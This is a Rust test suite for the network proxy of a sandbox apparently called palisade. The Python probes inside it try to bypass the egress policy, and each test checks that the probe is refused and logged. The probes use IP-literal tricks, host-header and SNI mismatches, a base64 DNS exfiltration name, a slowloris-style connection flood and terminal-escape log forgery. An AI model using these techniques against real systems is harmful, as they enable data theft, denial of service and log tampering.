//! Egress through palisade's proxy, against a real server on the host's loopback (which the
//! sandbox's own loopback is not): every path in (proxy variables, SOCKS5, transparent capture),
//! and each denial with its reason in the report, checked also from the server's side: a refused
//! request never arrives there. Runs as root and as the unprivileged user alike.

mod common;
use common::*;
use serde_json::Value;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// A host-side server on 127.0.0.1 that records the first bytes of every connection and answers
/// HTTP requests with `host=<Host header>` (or N bytes for `/bytes/N`).
struct Server {
    port: u16,
    seen: Arc<Mutex<Vec<Vec<u8>>>>,
}

impl Server {
    fn start() -> Server {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let s2 = seen.clone();
        std::thread::spawn(move || {
            for c in l.incoming().flatten() {
                let seen = s2.clone();
                std::thread::spawn(move || serve(c, &seen));
            }
        });
        Server { port, seen }
    }

    fn saw(&self, needle: &str) -> bool {
        self.seen
            .lock()
            .unwrap()
            .iter()
            .any(|b| String::from_utf8_lossy(b).contains(needle))
    }
}

fn serve(mut c: TcpStream, seen: &Mutex<Vec<Vec<u8>>>) {
    let _ = c.set_read_timeout(Some(Duration::from_secs(3)));
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    while !buf.windows(4).any(|w| w == b"\r\n\r\n") && buf.len() < 65536 {
        match c.read(&mut chunk) {
            Ok(0) | Err(_) => break,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
        if buf.first() == Some(&0x16) {
            break; // a ClientHello: recorded, not answered
        }
    }
    seen.lock().unwrap().push(buf.clone());
    let text = String::from_utf8_lossy(&buf).into_owned();
    if !text.starts_with("GET ") {
        return;
    }
    let host = text
        .lines()
        .find_map(|l| {
            l.strip_prefix("Host: ")
                .or_else(|| l.strip_prefix("host: "))
        })
        .unwrap_or("")
        .trim()
        .to_owned();
    let path = text.split(' ').nth(1).unwrap_or("/");
    let body: Vec<u8> = match path.strip_prefix("/bytes/") {
        Some(n) => vec![b'x'; n.parse().unwrap_or(0)],
        None => format!("host={host} path={path}\n").into_bytes(),
    };
    let _ = write!(
        c,
        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = c.write_all(&body);
}

/// Runs python3 inside with the JSON report, with the network options.
fn py(opts: &[String], script: &str) -> Run {
    let mut o: Vec<&str> = opts.iter().map(String::as_str).collect();
    o.extend(["--json", "-", "--timeout", "60s"]);
    run(&o, &["python3", "-c", script])
}

fn has_event(r: &Run, via: &str, host: &str, decision: &str, reason: &str) -> bool {
    events(r).iter().any(|e| {
        e["via"] == via && e["host"] == host && e["decision"] == decision && e["reason"] == reason
    })
}

/// The usual options: example.org pinned to the server, allowed on its port, and the server's
/// address allowed by an IP rule (it is loopback, so a name alone could not reach it).
fn allow(port: u16) -> Vec<String> {
    vec![
        "--allow-net".into(),
        format!("example.org:{port}"),
        "--allow-net".into(),
        format!("127.0.0.1:{port}"),
        "--resolve".into(),
        "example.org=127.0.0.1".into(),
    ]
}

const HELPERS: &str = r#"
import os, socket, ssl, sys, urllib.request
def connect(host, port):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        d = s.recv(4096)
        if not d: break
        head += d
    return s, head.decode(errors="replace")
def socks(host, port):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=20)
    s.sendall(b"\x05\x01\x00"); assert s.recv(2) == b"\x05\x00"
    h = host.encode()
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(h)]) + h + port.to_bytes(2, "big"))
    return s, s.recv(10)
def readall(s):
    return b"".join(iter(lambda: s.recv(65536), b"")).decode(errors="replace")
def get(url, proxy=True):
    h = urllib.request.ProxyHandler() if proxy else urllib.request.ProxyHandler({})
    try:
        return urllib.request.build_opener(h).open(url, timeout=20).read().decode()
    except urllib.error.HTTPError as e:
        return f"HTTP {e.code} {e.headers.get('X-Palisade-Denied')}"
    except Exception as e:
        return f"ERR {type(e).__name__} {e}"
"#;

#[test]
fn without_rules_there_is_no_network_at_all() {
    let srv = Server::start();
    let p = srv.port;
    let r = py(
        &[],
        &format!(
            r#"
import socket
for addr in [("127.0.0.1", {p}), ("198.51.100.10", 80)]:
    try:
        socket.create_connection(addr, timeout=5); print("CONNECTED", addr)
    except OSError as e:
        print("refused", addr, e.errno)
try:
    socket.getaddrinfo("example.org", 80); print("RESOLVED")
except OSError as e:
    print("no-dns")
"#
        ),
    );
    assert!(
        !r.stdout.contains("CONNECTED") && !r.stdout.contains("RESOLVED"),
        "{}",
        r.stdout
    );
    // Landlock (ABI 4 and later) refuses both connects first (EACCES); below it, the empty
    // namespace does: nothing listens on its loopback, and it has no route.
    let landlock_tcp = r.report()["landlock_abi"].as_u64().unwrap() >= 4;
    let (lo, out) = if landlock_tcp { (13, 13) } else { (111, 101) };
    assert!(
        r.stdout
            .contains(&format!("refused ('127.0.0.1', {p}) {lo}")),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout
            .contains(&format!("refused ('198.51.100.10', 80) {out}")),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("no-dns"), "{}", r.stdout);
    assert_eq!(r.report()["network"]["mode"], "none");
    assert!(srv.seen.lock().unwrap().is_empty());
}

#[test]
fn an_allowed_host_is_reached_by_proxy_variables_socks5_and_transparently() {
    let srv = Server::start();
    let p = srv.port;
    let r = py(
        &allow(p),
        &format!(
            r#"{HELPERS}
print("proxy:", get("http://example.org:{p}/via-proxy"))
print("transparent:", get("http://EXAMPLE.org.:{p}/via-transparent", proxy=False))
s, rep = socks("example.org", {p})
s.sendall(b"GET /via-socks HTTP/1.1\r\nHost: example.org\r\n\r\n")
print("socks:", rep[1], readall(s).split("\r\n\r\n")[-1])
s, head = connect("example.org", {p})
s.sendall(b"GET /via-connect HTTP/1.1\r\nHost: example.org\r\n\r\n")
print("connect:", head.split("\r\n")[0], readall(s).split("\r\n\r\n")[-1])
print("dns:", socket.gethostbyname("example.org"))
print("big:", len(get("http://example.org:{p}/bytes/100000")))
"#
        ),
    );
    let out = &r.stdout;
    assert!(
        out.contains("proxy: host=example.org"),
        "{out}\n{}",
        r.stderr
    );
    assert!(out.contains("transparent: host=EXAMPLE.org."), "{out}");
    assert!(
        out.contains("socks: 0 host=example.org path=/via-socks"),
        "{out}"
    );
    assert!(out.contains("connect: HTTP/1.1 200"), "{out}");
    assert!(out.contains("dns: 127.77.0.1"), "{out}");
    assert!(out.contains("big: 100000"), "{out}");
    for path in [
        "/via-proxy",
        "/via-transparent",
        "/via-socks",
        "/via-connect",
    ] {
        assert!(srv.saw(path), "the server never got {path}");
    }
    for via in [
        "http-forward",
        "transparent",
        "socks5",
        "http-connect",
        "dns",
    ] {
        assert!(
            has_event(&r, via, "example.org", "allowed", "allowed"),
            "{via}: {:#?}",
            events(&r)
        );
    }
    let big = events(&r)
        .into_iter()
        .filter(|e| e["via"] == "http-forward")
        .map(|e| e["bytes_in"].as_u64().unwrap())
        .max()
        .unwrap();
    assert!(big > 100_000, "bytes_in {big}");
}

#[test]
fn each_kind_of_refusal_is_answered_logged_and_never_reaches_the_server() {
    let srv = Server::start();
    let p = srv.port;
    let mut opts = allow(p);
    for o in [
        "--allow-net".to_string(),
        format!("*.example.org:{p}"),
        "--deny-net".into(),
        "bad.example.org".into(),
        "--resolve".into(),
        "a.example.org=127.0.0.1".into(),
        "--resolve".into(),
        "bad.example.org=127.0.0.1".into(),
        "--allow-net".into(),
        format!("private.test:{p}"),
        "--resolve".into(),
        "private.test=10.9.9.9".into(),
        "--allow-net".into(),
        format!("loop.test:{p}"),
        "--resolve".into(),
        "loop.test=127.0.0.3".into(),
    ] {
        opts.push(o);
    }
    let r = py(
        &opts,
        &format!(
            r#"{HELPERS}
for host in ["other.test", "evilexample.org", "example.org.evil", "bad.example.org", "127.0.0.2",
             "2130706434", "0x7f000002", "[::1]", "private.test", "loop.test", "a.example.org"]:
    s, head = connect(host, {p})
    print("CONNECT", host, head.split("\r\n")[0], [l for l in head.split("\r\n") if l.startswith("X-Palisade")])
s, head = connect("example.org", 443)
print("CONNECT port", head.split("\r\n")[0])
s, head = connect("2130706433", {p})
print("CONNECT decimal-allowed", head.split("\r\n")[0])
print("forward", get("http://other.test:{p}/nope"))
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(b"GET http://example.org:{p}/fronted HTTP/1.1\r\nHost: other.test\r\n\r\n")
print("fronted", s.makefile("rb").readline().decode().strip())
s, rep = socks("other.test", {p})
print("socks-denied", rep[1])
s, head = connect("example.org", {p})
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    ctx.wrap_socket(s, server_hostname="other.test"); print("TLS-UP")
except OSError as e:
    print("tls-mismatch closed")
s, head = connect("example.org", {p})
try:
    ctx.wrap_socket(s, server_hostname="example.org")
except OSError:
    print("tls-match sent")
"#
        ),
    );
    let out = &r.stdout;
    for (host, code) in [
        ("other.test", "not-allowed"),
        ("evilexample.org", "not-allowed"),
        ("example.org.evil", "not-allowed"),
        ("bad.example.org", "denied-by-rule"),
        ("127.0.0.2", "ip-literal"),
        ("2130706434", "ip-literal"),
        ("0x7f000002", "ip-literal"),
        ("[::1]", "ip-literal"),
        ("private.test", "special-address"),
        ("loop.test", "special-address"),
    ] {
        let line = format!("CONNECT {host} HTTP/1.1 403 Forbidden ['X-Palisade-Denied: {code}']");
        assert!(out.contains(&line), "{line}\n{out}\n{}", r.stderr);
    }
    // The numeric forms are IP literals: they are logged as the address they spell.
    assert!(has_event(
        &r,
        "http-connect",
        "127.0.0.2",
        "denied",
        "ip-literal"
    ));
    assert!(has_event(
        &r,
        "http-connect",
        "private.test",
        "denied",
        "special-address"
    ));
    assert!(out.contains("CONNECT a.example.org HTTP/1.1 200"), "{out}");
    assert!(out.contains("CONNECT port HTTP/1.1 403"), "{out}");
    assert!(has_event(
        &r,
        "http-connect",
        "example.org",
        "denied",
        "port-not-allowed"
    ));
    assert!(
        out.contains("CONNECT decimal-allowed HTTP/1.1 200"),
        "{out}"
    );
    assert!(out.contains("forward HTTP 403 not-allowed"), "{out}");
    assert!(out.contains("fronted HTTP/1.1 403"), "{out}");
    assert!(has_event(
        &r,
        "http-forward",
        "example.org",
        "denied",
        "host-header-mismatch"
    ));
    assert!(out.contains("socks-denied 2"), "{out}");
    assert!(has_event(
        &r,
        "socks5",
        "other.test",
        "denied",
        "not-allowed"
    ));
    assert!(
        out.contains("tls-mismatch closed") && !out.contains("TLS-UP"),
        "{out}"
    );
    assert!(has_event(
        &r,
        "http-connect",
        "example.org",
        "denied",
        "tls-name-mismatch"
    ));
    assert!(out.contains("tls-match sent"), "{out}");
    assert!(
        srv.saw("example.org"),
        "the matching ClientHello went through"
    );
    assert!(!srv.saw("other.test") && !srv.saw("/nope") && !srv.saw("/fronted"));
    // Denials are also printed as they happen (the test runs with -q, which silences them).
    assert!(!r.stderr.contains("palisade: net:"), "{}", r.stderr);
}

#[test]
fn the_dns_stub_answers_only_allowed_names_and_nothing_else_gets_out() {
    let srv = Server::start();
    let r = py(
        &allow(srv.port),
        &format!(
            r#"
import socket, errno
for n in ["example.org", "c2VjcmV0LWRhdGE.exfil.other.test", "other.test"]:
    try: print(n, socket.gethostbyname(n))
    except OSError as e: print(n, "NXDOMAIN")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: u.sendto(b"x", ("198.51.100.53", 53)); print("UDP-SENT")
except OSError as e: print("udp", errno.errorcode[e.errno])
try: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print("RAW")
except OSError as e: print("raw", errno.errorcode[e.errno])
try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); print("PACKET")
except OSError as e: print("packet", errno.errorcode[e.errno])
try: socket.create_connection(("127.77.9.9", {p}), timeout=10).recv(1); print("unknown closed")
except OSError as e: print("unknown", errno.errorcode.get(e.errno, e))
"#,
            p = srv.port
        ),
    );
    let out = &r.stdout;
    assert!(
        out.contains("example.org 127.77.0.1"),
        "{out}\n{}",
        r.stderr
    );
    assert!(
        out.contains("c2VjcmV0LWRhdGE.exfil.other.test NXDOMAIN"),
        "{out}"
    );
    assert!(
        out.contains("udp ENETUNREACH") && out.contains("raw EPERM"),
        "{out}"
    );
    assert!(
        !out.contains("PACKET") && out.contains("unknown closed"),
        "{out}"
    );
    assert!(has_event(
        &r,
        "transparent",
        "127.77.9.9",
        "denied",
        "unknown-address"
    ));
    assert!(has_event(
        &r,
        "dns",
        "c2vjcmv0lwrhdge.exfil.other.test",
        "denied",
        "not-allowed"
    ));
    assert!(r.report()["denied_syscalls"]
        .as_array()
        .unwrap()
        .iter()
        .any(|d| d["name"].as_str().unwrap().starts_with("socket")));
}

#[test]
fn denials_are_printed_as_they_happen_unless_quiet() {
    let srv = Server::start();
    let mut c = std::process::Command::new(palisade_bin());
    c.args(["run", "--no-tty"])
        .args(allow(srv.port))
        .args(["--", "python3", "-c"])
        .arg(format!(
            "{HELPERS}\nprint(get('http://other.test:{}/'))",
            srv.port
        ))
        .stdin(std::process::Stdio::null());
    let o = c.output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("palisade: net: denied http-forward other.test:")
            && err.contains("not-allowed"),
        "{err}"
    );
}

#[test]
fn bad_rules_are_refused_with_the_option_named() {
    for (flag, value) in [
        ("--allow-net", "*"),
        ("--allow-net", "*.com"),
        ("--allow-net", "*.co.uk"),
        ("--allow-net", "exa mple.org"),
        ("--allow-net", "example.org:99999"),
        ("--allow-net", "10.0.0.0/0"),
        ("--deny-net", "a.*.org"),
        ("--resolve", "nonsense"),
    ] {
        let r = run(&["--allow-net", "example.org", flag, value], &["true"]);
        assert_eq!(r.code, 125, "{flag} {value}: {}", r.stderr);
        assert!(
            r.stderr.contains(flag) && r.stderr.contains(value),
            "{flag} {value}: {}",
            r.stderr
        );
    }
    let r = run(&["--deny-net", "example.org"], &["true"]);
    assert_eq!(r.code, 125);
    assert!(r.stderr.contains("--allow-net"), "{}", r.stderr);
}

/// The supervisor's `Threads:` in /proc (`None` once it has exited).
fn threads_of(pid: u32) -> Option<usize> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    s.lines()
        .find_map(|l| l.strip_prefix("Threads:"))
        .and_then(|v| v.trim().parse().ok())
}

/// Long enough for anything that should happen to happen on a busy machine; a wait that takes
/// longer fails the test.
const PATIENCE: Duration = Duration::from_secs(120);

#[test]
fn thousands_of_slow_connections_hold_a_bounded_number_of_supervisor_threads() {
    // palisade_net::MAX_CONNECTIONS, plus the supervisor's own threads (main, one per listener).
    const CAP: usize = 128;
    let ctl = TempDir::new("slowloris");
    std::fs::set_permissions(
        ctl.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    // Three processes open 1000 connections each to the HTTP proxy, send one byte, then keep
    // each alive with a byte every two seconds (a per-read timeout would never fire) until the
    // test lets them go.
    let script = r#"
import os, socket, time
for p in range(3):
    if os.fork() == 0:
        socks = []
        for i in range(1000):
            try:
                s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
                s.send(b"C")
                socks.append(s)
            except OSError:
                pass
        print("opened", len(socks), flush=True)
        while not os.path.exists("/ctl/release"):
            time.sleep(2)
            for s in list(socks):
                try:
                    s.send(b"O")
                except OSError:
                    socks.remove(s)
                    s.close()
        os._exit(0)
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
"#;
    let ro = format!("{}:/ctl", ctl.s());
    let mut c = command(
        &[
            "--allow-net",
            "example.org",
            "--ro",
            &ro,
            "--json",
            "-",
            "--timeout",
            "300s",
        ],
        &["python3", "-c", script],
    );
    c.stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = c.spawn().expect("palisade could not be started");
    let pid = child.id();
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    let reader = std::thread::spawn(move || {
        use std::io::BufRead;
        let mut all = String::new();
        for line in std::io::BufReader::new(stdout)
            .lines()
            .map_while(Result::ok)
        {
            if line.starts_with("opened") {
                let _ = tx.send(line.clone());
            }
            all.push_str(&line);
            all.push('\n');
        }
        all
    });
    let mut most = 0;
    for _ in 0..3 {
        let line = rx
            .recv_timeout(PATIENCE)
            .unwrap_or_else(|_| panic!("the payload did not open its connections"));
        assert!(line.starts_with("opened"), "{line}");
        most = most.max(threads_of(pid).unwrap_or(0));
    }
    // While every connection is held: the count, a few times over.
    for _ in 0..20 {
        most = most.max(threads_of(pid).unwrap_or(0));
        std::thread::sleep(Duration::from_millis(100));
    }
    std::fs::write(ctl.path().join("release"), "").unwrap();
    let status = child.wait().unwrap();
    let stdout = reader.join().unwrap();
    let mut err = String::new();
    let _ = child.stderr.take().unwrap().read_to_string(&mut err);
    assert!(
        most <= CAP + 16,
        "the supervisor ran {most} threads for one sandbox\n{err}"
    );
    assert!(status.success(), "{status}\n{err}");
    let r = Run {
        code: 0,
        stdout,
        stderr: err,
    };
    let refused = r.report()["network"]["refused_connections"]
        .as_u64()
        .unwrap();
    assert!(refused > 0, "{}", r.stdout);
}

#[test]
fn thousands_of_huge_connect_targets_keep_the_report_and_the_supervisor_small() {
    let dir = TempDir::new("bloat");
    let report = dir.path().join("r.json");
    // 2000 CONNECTs whose target is 60 KB: control bytes (not a request httparse takes) and
    // letters (a request, with a host too long to be one).
    let script = r#"
import socket
for i in range(2000):
    target = (b"\x01" if i % 2 else b"a") * 60000
    c = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    c.sendall(b"CONNECT " + target + b":443 HTTP/1.1\r\n\r\n")
    try:
        c.recv(100)
    except OSError:
        pass
    c.close()
print("sent")
"#;
    let json = report.display().to_string();
    let mut c = command(
        &[
            "--allow-net",
            "example.org",
            "--memory",
            "64MiB",
            "--json",
            &json,
            "--timeout",
            "300s",
        ],
        &["python3", "-c", script],
    );
    c.stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    #[allow(
        clippy::zombie_processes,
        reason = "reaped by wait4 below, which also gives its rusage"
    )]
    let child = c.spawn().expect("palisade could not be started");
    // wait4, for the supervisor's peak memory (its own, or a waited-for descendant's if larger).
    let mut status = 0;
    // SAFETY: an all-zero rusage is a valid value for wait4 to overwrite.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: pid is our own child, not waited for yet; both pointers are to live locals.
    let r = unsafe { libc::wait4(child.id() as i32, &mut status, 0, &mut usage) };
    assert_eq!(r, child.id() as i32, "{}", std::io::Error::last_os_error());
    assert!(
        libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0,
        "{status:#x}"
    );
    let size = std::fs::metadata(&report).unwrap().len();
    assert!(size < 16 << 20, "a {size}-byte report");
    let rss = usage.ru_maxrss as u64 * 1024;
    assert!(rss < 128 << 20, "the supervisor's peak RSS was {rss} bytes");
    let r: Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    let net = &r["network"];
    assert_eq!(net["denied"], 2000, "{net}");
    for e in net["events"].as_array().unwrap() {
        let host = e["host"].as_str().unwrap();
        assert!(host.chars().count() <= 4 * 260 + 32, "{}", host.len());
        assert!(!host.chars().any(char::is_control), "{host:?}");
    }
}

#[test]
fn sandbox_bytes_in_net_lines_are_escaped_and_the_lines_are_bounded() {
    let dir = TempDir::new("netlines");
    let report = dir.path().join("r.json");
    // 300 DNS questions for names that forge a palisade line and retitle the terminal.
    let script = r#"
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(10)
def q(labels, i):
    return (struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)
            + b"".join(bytes([len(l)]) + l for l in labels) + b"\0\0\1\0\1")
for i in range(300):
    forged = b"\n\x1b[2K\rpalisade: ok \xc2\xb7 exit 0 \xc2\xb7 FORGED %d" % i
    s.sendto(q([forged, b"\x1b]0;title\x07x"], i), ("127.0.0.1", 53))
    s.recv(4000)
print("asked")
"#;
    let o = std::process::Command::new(palisade_bin())
        .args(["run", "--no-tty", "--allow-net", "example.org", "--json"])
        .arg(&report)
        .args(["--", "python3", "-c", script])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let err = &o.stderr;
    let text = String::from_utf8_lossy(err);
    assert!(o.status.success(), "{text}");
    assert!(String::from_utf8_lossy(&o.stdout).contains("asked"));
    assert!(
        !err.contains(&0x1b),
        "an escape sequence reached stderr:\n{text}"
    );
    assert!(
        !err.contains(&b'\r'),
        "a carriage return reached stderr:\n{text}"
    );
    let net_lines: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("palisade: net: "))
        .collect();
    assert_eq!(net_lines.len(), 100, "{text}");
    assert!(
        text.contains("palisade: 200 more net decisions not printed"),
        "{text}"
    );
    for l in text.lines().filter(|l| l.contains("FORGED")) {
        assert!(
            l.starts_with("palisade: net: denied dns \\n\\x1b[2K\\rpalisade: ok"),
            "{l}"
        );
    }
    let r: Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    assert_eq!(r["network"]["denied"], 300);
    assert_eq!(r["network"]["notify_suppressed"], 200);
}

#[test]
fn the_cpu_time_the_proxy_spends_for_the_sandbox_is_reported() {
    let srv = Server::start();
    let p = srv.port;
    // 32 MiB relayed: about 25 ms of the supervisor's CPU at the relay's 0.8 s per GiB.
    let r = py(
        &allow(p),
        &format!("{HELPERS}\nprint('got', len(get('http://example.org:{p}/bytes/33554432')))"),
    );
    assert!(
        r.stdout.contains("got 33554432"),
        "{}\n{}",
        r.stdout,
        r.stderr
    );
    let net = &r.report()["network"];
    let ms = net["supervisor_cpu_ms"].as_u64().unwrap();
    assert!(ms >= 1, "{net}");
}
